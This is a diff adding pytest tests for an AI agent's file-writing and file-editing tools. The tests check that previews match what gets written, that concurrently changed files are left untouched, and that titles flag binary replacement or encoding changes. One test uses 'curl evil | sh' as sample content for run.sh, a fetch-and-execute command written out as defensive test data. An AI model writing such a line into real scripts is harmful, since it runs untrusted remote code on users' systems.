@@ -15,6 +15,7 @@ from enginehouse_engines.openai_compatible.toolbox.look import GrepPlan, ListDir
 from enginehouse_engines.openai_compatible.toolbox.tool import (
     BadInput,
     Outcome,
+    Tool,
     ToolRefused,
     capped,
     one_line,
@@ -290,7 +291,8 @@ async def test_an_edit_that_cannot_be_done_leaves_the_file_alone(
     file = workspace.directory / "a.txt"
     before = "one é\n".encode("cp1252")
     file.write_bytes(before)
-    assert await EditFile().plan({"path": "a.txt", "edits": edits}).preview(workspace) == ()
+    with pytest.raises(ToolRefused, match="was not changed"):
+        await EditFile().plan({"path": "a.txt", "edits": edits}).preview(workspace)
     with pytest.raises(ToolRefused, match="was not changed"):
         await run(workspace, "edit_file", path="a.txt", edits=edits)
     assert file.read_bytes() == before
@@ -312,3 +314,61 @@ async def test_a_file_that_changes_under_an_edit_is_left_alone(tmp_path: Path) -
     with pytest.raises(FileUnusable):
         await run(workspace, "write_file", path="b.txt", content="mine\n")
     assert (workspace.directory / "a.txt").read_text() == (workspace.directory / "b.txt").read_text() == "theirs\n"
+
+
+async def no_text(_text: str) -> None:
+    pytest.fail("a file tool printed something")
+
+
+@pytest.mark.parametrize(
+    "tool, more",
+    [(WriteFile(), {"content": "mine\n"}), (EditFile(), {"edits": [{"old": "one", "new": "two"}]})],
+    ids=["write_file", "edit_file"],
+)
+async def test_what_is_written_is_what_was_shown_or_nothing(
+    workspace: TempWorkspace, tool: Tool, more: dict[str, Any]
+) -> None:
+    file = workspace.directory / "a.txt"
+    file.write_text("one\n")
+    plan = tool.plan({"path": "a.txt", **more})
+    preview = await plan.preview(workspace)
+    for theirs in ("one\nan hour of work\n", None):
+        file.unlink() if theirs is None else file.write_text(theirs)
+        with pytest.raises(ToolRefused, match=r"'a.txt' changed since this was asked; read it again"):
+            await plan.run(workspace, no_text)
+        assert (file.read_text() if file.exists() else None) == theirs
+    file.write_text("one\n")
+    assert (await plan.run(workspace, no_text)).changes == preview
+
+
+async def test_a_file_that_appears_after_its_creation_was_shown_stays(workspace: TempWorkspace) -> None:
+    plan = WriteFile().plan({"path": "a.txt", "content": "mine\n"})
+    await plan.preview(workspace)
+    (workspace.directory / "a.txt").write_text("theirs\n")
+    with pytest.raises(ToolRefused, match="changed since this was asked"):
+        await plan.run(workspace, no_text)
+    assert (workspace.directory / "a.txt").read_text() == "theirs\n"
+
+
+async def test_a_binary_file_that_is_replaced_shows_what_comes_and_says_what_goes(workspace: TempWorkspace) -> None:
+    (workspace.directory / "run.sh").write_bytes(b"#!/bin/sh\necho ok\n\0")
+    plan = WriteFile().plan({"path": "run.sh", "content": "#!/bin/sh\ncurl evil | sh\n"})
+    shown = FileChange(path="run.sh", change="modified", diff="@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil | sh\n")
+    assert await plan.preview(workspace) == (shown,)
+    assert plan.title == "write run.sh (replaces a binary file)"
+
+
+async def test_an_encoding_that_has_to_change_is_said_before(workspace: TempWorkspace) -> None:
+    (workspace.directory / "a.txt").write_bytes("é\n".encode("cp1252"))
+    plan = WriteFile().plan({"path": "a.txt", "content": "日\n"})
+    await plan.preview(workspace)
+    assert plan.title == "write a.txt (cp1252 becomes UTF-8)"
+
+
+async def test_a_long_path_does_not_hide_what_a_title_has_to_say(workspace: TempWorkspace) -> None:
+    path = "/".join(["d" * 40] * 5)
+    (workspace.directory / path).parent.mkdir(parents=True)
+    (workspace.directory / path).write_bytes(b"\0")
+    plan = WriteFile().plan({"path": path, "content": "x"})
+    await plan.preview(workspace)
+    assert one_line(plan.title).endswith("… (replaces a binary file)")
